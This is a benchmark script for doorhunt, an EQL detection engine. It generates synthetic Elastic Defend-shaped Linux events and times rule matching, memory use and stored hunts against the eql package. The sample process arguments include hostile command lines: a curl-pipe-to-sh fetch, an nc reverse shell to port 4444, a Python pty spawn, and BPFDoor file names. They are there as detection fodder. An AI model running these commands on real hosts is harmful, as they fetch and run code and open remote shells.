"""Benchmark of the EQL engine (issue 5). Every figure is printed beside its baseline from the
same run.

1. Streaming with the shipped pack (src/doorhunt/rules/pack) over a generated stream of Linux
   events shaped as Elastic Defend and doorhunt's sensor write them; baseline: the `eql`
   package's Python engine on the same events with the pack rules it can run.
   Target: >= 100,000 events/s.
2. Streaming with every rule of Elastic's Linux corpus (../shared/corpus) that compiles;
   baseline: the eql engine on the same events with the rules it parses and runs, and
   doorhunt on those same rules for the ratio. Target: >= 50x the eql engine. eql compares
   an array as one value, so it fails most conditions of Defend's documents at their first
   term (event.type: ["start"]); it also runs on a view with one-element arrays made
   scalars, where it evaluates them as far as Elasticsearch would.
3. Memory: the pack's and the corpus's sequences and samples with a small bound on pending
   state per rule (--max-pending): the most any rule held, evictions, sequences expired
   past maxspan, and the memory the engine's state holds (tracemalloc).
4. Hunts over N stored events (default 10,000,000) in the embedded store: the pack's
   single-event rule (execution from shared memory) and two-step sequence (reverse shell);
   baseline: one scan of every stored document. Targets: <= 2 s and <= 10 s. The store is
   kept in --store-cache and reused while it holds N events of this generator.

Run it alone (other work on the machine skews every figure):

    flock /tmp/doorhunt-bench.lock .venv/bin/python bench/bench_eql.py [--events 100000]
        [--store-events 10000000] [--store-cache /tmp/doorhunt-bench-eql-store]
        [--eql-seconds 20] [--max-pending 1000] [--skip-hunts]
"""

from __future__ import annotations

import argparse
import calendar
import gc
import os
import random
import shutil
import sys
import time
import tracemalloc
from collections.abc import Iterator, Sequence
from pathlib import Path

import orjson

from doorhunt.rules.engine import (
    CompiledRule,
    EngineStats,
    StreamingEngine,
    compile_rule,
    run_hunt,
    to_sql,
)
from doorhunt.rules.engine._eql import ReferenceEngine
from doorhunt.rules.engine.compat import load_corpus
from doorhunt.rules.pack.loader import load_rules

ROOT = Path(__file__).resolve().parents[1]
CORPUS = ROOT.parent / "shared" / "corpus" / "elastic-linux-eql.jsonl"
# Changing what Host generates must change this: it invalidates cached stores.
GENERATOR_VERSION = 2
SINGLE_HUNT = "defense_evasion_execution_from_shared_memory"
SEQUENCE_HUNT = "execution_reverse_shell_after_outbound_connection"

# -- a Linux host's events, as Elastic Defend and doorhunt's sensor write them -----------------

BINARIES = [
    ("/usr/bin/bash", "bash"), ("/usr/bin/sh", "sh"), ("/usr/bin/dash", "dash"),
    ("/usr/sbin/sshd", "sshd"), ("/usr/lib/systemd/systemd", "systemd"),
    ("/usr/sbin/cron", "cron"), ("/usr/bin/python3.11", "python3"), ("/usr/bin/curl", "curl"),
    ("/usr/bin/apt-get", "apt-get"), ("/usr/bin/dpkg", "dpkg"), ("/usr/sbin/nginx", "nginx"),
    ("/usr/bin/java", "java"), ("/usr/bin/sudo", "sudo"), ("/usr/bin/ls", "ls"),
    ("/usr/bin/cat", "cat"), ("/usr/bin/grep", "grep"), ("/usr/bin/ps", "ps"),
    ("/usr/bin/git", "git"), ("/usr/bin/tar", "tar"), ("/usr/bin/gzip", "gzip"),
    ("/usr/sbin/rsyslogd", "rsyslogd"), ("/usr/bin/awk", "awk"), ("/usr/bin/sed", "sed"),
    ("/usr/bin/find", "find"), ("/usr/bin/id", "id"), ("/usr/bin/hostname", "hostname"),
    ("/usr/bin/wget", "wget"), ("/usr/bin/nc.openbsd", "nc"), ("/usr/bin/base64", "base64"),
    ("/usr/bin/openssl", "openssl"), ("/usr/bin/perl", "perl"), ("/usr/bin/node", "node"),
    ("/usr/sbin/iptables", "iptables"), ("/usr/sbin/tcpdump", "tcpdump"),
    ("/usr/sbin/dhclient", "dhclient"),
]  # fmt: skip
# What a hunt looks for is rare: one spawn in 5,000 (BPFDoor's names among them).
RARE = [
    ("/dev/shm/kdmtmpflush", "kdmtmpflush"), ("/tmp/.x/agent", "agent"),
    ("/var/run/haldrund.pid", "haldrund"), ("/usr/bin/chattr", "chattr"),
]  # fmt: skip
ARGS = {
    "bash": [["bash"], ["bash", "-c", "ls -la /var/log"], ["bash", "-c", "curl -s http://x | sh"]],
    "sh": [["sh", "-c", "run-parts /etc/cron.daily"], ["sh", "/usr/lib/update-notifier/x"]],
    "curl": [["curl", "-s", "https://deb.debian.org/"], ["curl", "-o", "/tmp/a", "http://1.2.3.4/a"]],
    "python3": [["python3", "-m", "http.server"], ["python3", "/opt/app/main.py"],
                ["python3", "-c", "import socket,os,pty"]],
    "nc": [["nc", "-lvnp", "4444"], ["nc", "-e", "/bin/sh", "10.0.0.5", "4444"]],
    "base64": [["base64", "-d"], ["base64", "/etc/hostname"]],
    "iptables": [["iptables", "-L", "-n"], ["iptables", "-A", "INPUT", "-p", "tcp", "--dport",
                                             "22", "-j", "ACCEPT"]],
    "tcpdump": [["tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap", "port", "53"]],
    "dhclient": [["dhclient", "-4", "eth0"]],
}  # fmt: skip
ENVIRONMENTS = [
    ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin", "HOME=/root", "LANG=C.UTF-8"],
    ["PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/home/dev", "TERM=xterm-256color", "SHELL=/bin/bash"],
    ["PATH=/usr/bin:/bin", "HOME=/tmp", "TERM=dumb"],
]  # fmt: skip
FILES = ["/etc/passwd", "/etc/shadow", "/etc/cron.d/backup", "/var/log/syslog", "/tmp/build.log",
         "/etc/systemd/system/app.service", "/var/run/sshd.pid", "/dev/shm/.lock",
         "/root/.ssh/authorized_keys", "/home/dev/.bash_history", "/var/tmp/cache.db",
         "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/apt/apt.conf.d/99x",
         "/run/nginx.pid", "/usr/local/bin/app"]  # fmt: skip
# Roughly a server's mix: execs, forks and ends; session, uid and name changes are rare.
PROCESS_ACTIONS = (["exec"] * 80 + ["fork"] * 70 + ["end"] * 48
                   + ["session_id_change", "uid_change", "name_change"])  # fmt: skip
FILE_ACTIONS = (
    ["creation"] * 25
    + ["modification"] * 25
    + ["deletion"] * 24
    + ["rename"] * 24
    + ["timestomp"] * 2
)
# The sensor's own network actions (socket_opened, filter_attached) are rare beside connections.
NETWORK_ACTIONS = (["connection_attempted"] * 32 + ["connection_accepted"] * 32
                   + ["disconnect_received"] * 32 + ["socket_opened"] * 3 + ["filter_attached"])  # fmt: skip


class Host:
    """A host's processes, emitting Defend-shaped events for random ones."""

    def __init__(self, seed: int, index: int = 0) -> None:
        self.random = random.Random(seed)
        self.index = index
        self.host_id = f"{seed:08x}{index:024x}"
        self.host: dict[str, object] = {
            "id": self.host_id,
            "name": f"web-{index}",
            "hostname": f"web-{index}",
            "architecture": "x86_64",
            "ip": [f"10.1.{index % 250}.{seed % 250}", "fe80::5054:ff:fe12:3456"],
            "os": {"type": "linux", "family": "debian", "platform": "debian", "name": "Linux",
                   "kernel": "6.1.0-18-amd64", "version": "12", "full": "Debian 12"},
        }  # fmt: skip
        self.agent = {"id": f"agent-{seed}", "type": "endpoint", "version": "8.15.0"}
        self.live: list[dict[str, object]] = []
        self.counter = 0
        self.time = 1_746_100_800.0  # 2025-05-01T12:00:00Z
        for _ in range(1000):
            self.live.append(self.spawn(None))

    def spawn(self, parent: dict[str, object] | None) -> dict[str, object]:
        self.counter += 1
        rng = self.random
        executable, name = rng.choice(RARE) if rng.random() < 0.0002 else rng.choice(BINARIES)
        args = rng.choice(ARGS.get(name, [[name]]))
        pid = 1000 + self.counter % 60000
        user = ("0", "root") if rng.random() < 0.6 else ("1000", "dev")
        process: dict[str, object] = {
            "pid": pid,
            "entity_id": f"{self.host_id[:12]}-{self.counter}",
            "name": name,
            "executable": executable,
            "args": args,
            "args_count": len(args),
            "command_line": " ".join(args),
            "working_directory": rng.choice(["/", "/root", "/home/dev", "/tmp"]),
            "interactive": rng.random() < 0.1,
            "user": {"id": user[0], "name": user[1]},
            "env_vars": rng.choice(ENVIRONMENTS),
            "hash": {"sha256": f"{rng.getrandbits(256):064x}"},
        }
        if parent is not None:
            process["parent"] = {
                key: parent[key]
                for key in (
                    "pid",
                    "entity_id",
                    "name",
                    "executable",
                    "args",
                    "args_count",
                    "command_line",
                )
            }
            ancestry = [parent["entity_id"]]
            parent_ext = parent.get("Ext")
            if isinstance(parent_ext, dict):
                ancestry += list(parent_ext.get("ancestry", []))[:4]
            process["Ext"] = {"ancestry": ancestry}
        return process

    def events(self, count: int) -> Iterator[dict[str, object]]:
        rng = self.random
        for _ in range(count):
            self.time += rng.expovariate(200.0)
            self.counter += 1
            kind = rng.random()
            process = rng.choice(self.live)
            brief = {k: process[k] for k in ("pid", "entity_id", "name", "executable")}
            extra: dict[str, object]
            if kind < 0.55:
                category, dataset = "process", "endpoint.events.process"
                action = rng.choice(PROCESS_ACTIONS)
                if action in ("exec", "fork"):
                    process = self.spawn(process)
                    self.live[rng.randrange(len(self.live))] = process
                types = {"exec": ["start"], "fork": ["start"], "end": ["end"]}.get(
                    action, ["change"]
                )
                extra = {"process": process}
            elif kind < 0.8:
                category, dataset = "file", "endpoint.events.file"
                action = rng.choice(FILE_ACTIONS)
                path = rng.choice(FILES)
                directory, name = path.rsplit("/", 1)
                types = [action if action in ("creation", "deletion") else "change"]
                extra = {
                    "process": brief,
                    "file": {"path": path, "name": name, "directory": directory,
                             "extension": name.rsplit(".", 1)[-1] if "." in name else "",
                             "size": rng.choice([0, rng.randrange(1, 65536)]),
                             "mode": rng.choice(["0644", "0600", "0755"])},
                }  # fmt: skip
            else:
                category, dataset = "network", "endpoint.events.network"
                action = rng.choice(NETWORK_ACTIONS)
                types = ["end"] if action == "disconnect_received" else ["start"]
                destination = rng.choice(["10.1.0.5", "192.168.1.20", "151.101.2.132",
                                          "203.0.113.7", "127.0.0.1", "2a04:4e42::644"])  # fmt: skip
                extra = {
                    "process": brief,
                    "source": {"ip": "10.1.0.9", "port": rng.randrange(32768, 60999)},
                    "destination": {"ip": destination, "port": rng.choice([22, 80, 443, 4444, 53])},
                    "network": {"direction": "egress", "transport": "tcp", "type": "ipv4"},
                }
                if action in ("socket_opened", "filter_attached"):
                    packet = rng.random() < 0.3
                    extra["doorhunt"] = {
                        "socket": {"family": "packet" if packet else "inet",
                                   "type": "raw" if packet else "stream"},
                        "bpf": {"class": "generic", "suspicious": False},
                    }  # fmt: skip
            seconds = int(self.time)
            millis = int((self.time - seconds) * 1000)
            stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds)) + f".{millis:03d}Z"
            yield {
                "@timestamp": stamp,
                "agent": self.agent,
                "data_stream": {"dataset": dataset, "namespace": "default", "type": "logs"},
                "ecs": {"version": "8.11.0"},
                "event": {
                    "action": action,
                    "category": [category],
                    "type": types,
                    "kind": "event",
                    "dataset": dataset,
                    "module": "endpoint",
                    "id": f"{self.host_id[:8]}{self.counter:016x}",
                    "sequence": self.counter,
                },
                "host": self.host,
                "user": process["user"],
                "message": f"Endpoint {category} event",
                **extra,
            }


def generate(count: int, seed: int = 5) -> list[dict[str, object]]:
    return list(Host(seed).events(count))


# -- measuring -------------------------------------------------------------------------------


def rate(count: int, seconds: float) -> float:
    return count / seconds if seconds > 0 else float("inf")


def run_streaming(
    rules: Sequence[CompiledRule], events: Sequence[dict[str, object]]
) -> tuple[float, int, EngineStats]:
    """Wall seconds, matches, stats."""
    engine = StreamingEngine(rules)
    gc.collect()
    started = time.perf_counter()
    matches = 0
    for event in events:
        matches += len(engine.process(event))
    matches += len(engine.flush())
    return time.perf_counter() - started, matches, engine.stats()


Triple = tuple[str, int, dict[str, object]]


def eql_events(events: Sequence[dict[str, object]]) -> list[Triple]:
    """(event type, time in ms, document) for eql: the type is the first event.category."""
    triples = []
    for event in events:
        stamp = str(event["@timestamp"])
        seconds = calendar.timegm(time.strptime(stamp[:19], "%Y-%m-%dT%H:%M:%S"))
        category = event["event"]["category"][0]  # type: ignore[index]
        triples.append((str(category), seconds * 1000 + int(stamp[20:23]), event))
    return triples


def runnable(queries: Sequence[str], sample: Sequence[Triple]) -> list[str]:
    """The queries eql parses and runs over the sample without raising (it raises TypeError
    on `in` against an array, for one)."""
    return [
        q
        for q in queries
        if ReferenceEngine.accepts(q) is None and ReferenceEngine.runs_on(q, sample)
    ]


def run_eql(queries: Sequence[str], triples: Sequence[Triple], budget: float) -> tuple[int, float]:
    """Events processed and seconds: eql runs until `budget` seconds have passed."""
    reference = ReferenceEngine(queries)
    gc.collect()
    started = time.perf_counter()
    processed = 0
    while processed < len(triples) and time.perf_counter() - started < budget:
        batch = triples[processed : processed + 200]
        reference.stream_tolerant(batch)
        processed += len(batch)
    return processed, time.perf_counter() - started


def compare(
    label: str,
    rules: Sequence[CompiledRule],
    events: Sequence[dict[str, object]],
    triples: Sequence[Triple],
    budget: float,
    target: str,
) -> tuple[float, float]:
    """doorhunt on every rule, doorhunt and eql on the rules eql runs; the events/s of
    doorhunt on every rule and the ratio on eql's rules."""
    queries = runnable([rule.text for rule in rules], triples[:2000])
    same = [rule for rule in rules if rule.text in set(queries)]
    seconds, matches, stats = run_streaming(rules, events)
    everything = rate(len(events), seconds)
    print(
        f"  doorhunt, all {len(rules)} rules:   {everything:9,.0f} events/s ({len(events):,} events "
        f"in {seconds:.2f} s, {matches:,} matches, {stats.evaluations / len(events):.2f} "
        f"conditions evaluated per event, {stats.pending:,} pending, {stats.evictions} evictions)"
    )
    seconds, matches, _ = run_streaming(same, events)
    ours = rate(len(events), seconds)
    print(f"  doorhunt, the {len(same)} eql runs: {ours:9,.0f} events/s ({matches:,} matches)")
    processed, eql_seconds = run_eql(queries, triples, budget)
    theirs = rate(processed, eql_seconds)
    print(
        f"  eql, the same {len(queries)} rules:   {theirs:9,.0f} events/s ({processed:,} events "
        f"in {eql_seconds:.1f} s)"
    )
    scalar = [(kind, millis, scalar_view(event)) for kind, millis, event in triples]
    processed, eql_seconds = run_eql(queries, scalar, budget)
    deeper = rate(processed, eql_seconds)
    print(
        f"  eql, the same rules, one-element arrays made scalars: {deeper:9,.0f} events/s "
        f"({processed:,} events in {eql_seconds:.1f} s)"
    )
    ratio = ours / theirs
    print(
        f"  {label}: {everything:,.0f} events/s with all {len(rules)} rules; {ratio:,.0f}x the "
        f"eql engine on the same {len(same)} rules ({ours / deeper:,.0f}x when eql sees "
        f"scalars; {everything / theirs:,.0f}x with all of doorhunt's against eql's) ({target})"
    )
    return everything, ratio


def scalar_view(event: dict[str, object]) -> dict[str, object]:
    """The event with one-element arrays made scalars. eql compares an array as one value,
    so on Defend's documents (event.type: ["start"]) most conditions fail at their first
    term; on this view it evaluates them as far as Elasticsearch would."""
    out: dict[str, object] = {}
    for key, value in event.items():
        if isinstance(value, dict):
            out[key] = scalar_view(value)
        elif isinstance(value, list) and len(value) == 1:
            out[key] = value[0]
        else:
            out[key] = value
    return out


def streaming_benchmarks(
    pack: Sequence[CompiledRule],
    corpus: Sequence[CompiledRule],
    events: Sequence[dict[str, object]],
    budget: float,
) -> None:
    triples = eql_events(events)
    print(f"\n[1] the shipped pack: {len(pack)} rules")
    compare("pack", pack, events, triples, budget, "target >= 100,000 events/s")
    if corpus:
        print(f"\n[2] Elastic's Linux corpus: {len(corpus)} rules compile")
        compare("corpus", corpus, events, triples, budget, "target >= 50x")


def memory_benchmark(
    rules: Sequence[CompiledRule], events: Sequence[dict[str, object]], bound: int
) -> None:
    stateful = [rule for rule in rules if rule.kind != "event"]
    print(
        f"\n[3] pending state: the {len(stateful)} sequences and samples of the pack and the "
        f"corpus, at most {bound:,} pending per rule"
    )
    gc.collect()
    tracemalloc.start()
    engine = StreamingEngine(stateful, max_pending=bound)
    baseline = tracemalloc.get_traced_memory()[0]
    most = 0
    for position, event in enumerate(events, 1):
        engine.process(event)
        if position % 1000 == 0:
            most = max([most, *(r.pending for r in engine.stats().rules)])
    held = tracemalloc.get_traced_memory()[0] - baseline
    tracemalloc.stop()
    stats = engine.stats()
    busiest = sorted(stats.rules, key=lambda r: (r.evictions, r.pending), reverse=True)[:3]
    print(
        f"  the most any rule held: {most:,} (bound {bound:,}); now {stats.pending:,} pending in "
        f"all; {stats.evictions:,} evicted, {sum(r.expired for r in stats.rules):,} expired past "
        f"maxspan; state held: {held / 2**20:.1f} MiB"
    )
    for rule in busiest:
        print(
            f"    {rule.rule[:60]}: {rule.pending:,} pending, {rule.evictions:,} evictions, "
            f"{rule.expired:,} expired"
        )


# -- hunts --------------------------------------------------------------------------------------


def cached_store(directory: Path, count: int) -> Path:
    """A store of `count` events from 8 hosts at `directory`, built unless it is there."""
    from doorhunt.store import Store  # noqa: PLC0415 - DuckDB only for the hunts

    marker = directory / "bench-eql.json"
    wanted = {"events": count, "generator": GENERATOR_VERSION}
    if marker.is_file() and orjson.loads(marker.read_bytes()) == wanted:
        print(f"  reusing the store in {directory} ({count:,} events)")
        return directory / "store"
    shutil.rmtree(directory, ignore_errors=True)
    directory.mkdir(parents=True, mode=0o700)
    store = Store(directory / "store")
    print(f"  writing {count:,} events to a store in {directory} ...", flush=True)
    started = time.perf_counter()
    hosts = [Host(seed, index) for index, seed in enumerate(range(11, 19))]
    per_host = count // len(hosts)
    with store.writer(flush_interval=3600, compact_interval=None, wait_when_full=True) as writer:
        # The hosts in turn, a second of events each: the store receives them in about
        # time order, as from sensors running side by side.
        written = 0
        while written < per_host:
            batch = min(200, per_host - written)
            for host in hosts:
                writer.extend(host.events(batch))
            written += batch
    info = store.info()
    seconds = time.perf_counter() - started
    print(
        f"  stored {info.events:,} events in {info.segments} segments, "
        f"{info.bytes / 2**20:,.0f} MiB, in {seconds:.0f} s ({info.events / seconds:,.0f}/s)"
    )
    marker.write_bytes(orjson.dumps(wanted))
    return directory / "store"


def hunt_benchmarks(pack: dict[str, CompiledRule], count: int, cache: Path) -> None:
    from doorhunt.store import Store  # noqa: PLC0415

    print(f"\n[4] hunts over {count:,} stored events")
    store = Store(cached_store(cache, count))
    with store.reader() as reader:
        reader.sql("SELECT count(*), sum(length(doc)) FROM events")  # the file cache, warm
        started = time.perf_counter()
        scanned = reader.sql("SELECT count(*), sum(length(doc)) FROM events")
        scan = time.perf_counter() - started
        print(
            f"  baseline, one scan of every stored document: {scan:.2f} s ({scanned[0][0]:,} rows)"
        )
        for label, name, target in (("single-event rule", SINGLE_HUNT, 2.0),
                                    ("two-step sequence", SEQUENCE_HUNT, 10.0)):  # fmt: skip
            rule = pack[name]
            run_hunt(reader, rule)  # DuckDB's metadata, warm
            started = time.perf_counter()
            found = run_hunt(reader, rule)
            seconds = time.perf_counter() - started
            # The statement alone: finding the matches, before their documents are read.
            started = time.perf_counter()
            reader.sql(to_sql(rule))
            finding = time.perf_counter() - started
            print(
                f"  {label} ({name}): {seconds:.2f} s, {len(found):,} matches (target <= "
                f"{target:.0f} s; {seconds / scan:.2f}x the scan); finding them {finding:.2f} s, "
                f"reading their documents {max(seconds - finding, 0):.2f} s"
            )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=100_000)
    parser.add_argument("--store-events", type=int, default=10_000_000)
    parser.add_argument("--store-cache", type=Path, default=Path("/tmp/doorhunt-bench-eql-store"))
    parser.add_argument("--eql-seconds", type=float, default=20.0)
    parser.add_argument("--max-pending", type=int, default=1000)
    parser.add_argument("--skip-hunts", action="store_true")
    args = parser.parse_args()
    load = os.getloadavg()
    print(
        f"{time.strftime('%Y-%m-%d %H:%M')}; load average {load[0]:.2f} {load[1]:.2f} "
        f"{load[2]:.2f} on {os.cpu_count()} CPUs"
    )
    pack = {rule.path.stem: rule.compiled for rule in load_rules()}
    corpus: list[CompiledRule] = []
    if CORPUS.is_file():
        corpus = [compile_rule(rule.query, name=rule.name) for rule in load_corpus(CORPUS)]
    else:
        print(f"the corpus is not at {CORPUS}; its benchmark is skipped", file=sys.stderr)
    print(f"generating {args.events:,} Linux events (Elastic Defend and doorhunt's sensor) ...")
    events = generate(args.events)
    # The events outlive every run: out of the collector's sight, as a stream's events
    # (which die young) would be, or each run pays for traversing them.
    gc.collect()
    gc.freeze()
    size = sum(len(orjson.dumps(e)) for e in events[:1000]) / 1000
    print(f"  mean document size {size:.0f} bytes")
    streaming_benchmarks(list(pack.values()), corpus, events, args.eql_seconds)
    memory_benchmark([*pack.values(), *corpus], events, args.max_pending)
    if not args.skip_hunts:
        hunt_benchmarks(pack, args.store_events, args.store_cache)
    load = os.getloadavg()
    print(f"\nload average at the end {load[0]:.2f} {load[1]:.2f} {load[2]:.2f}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
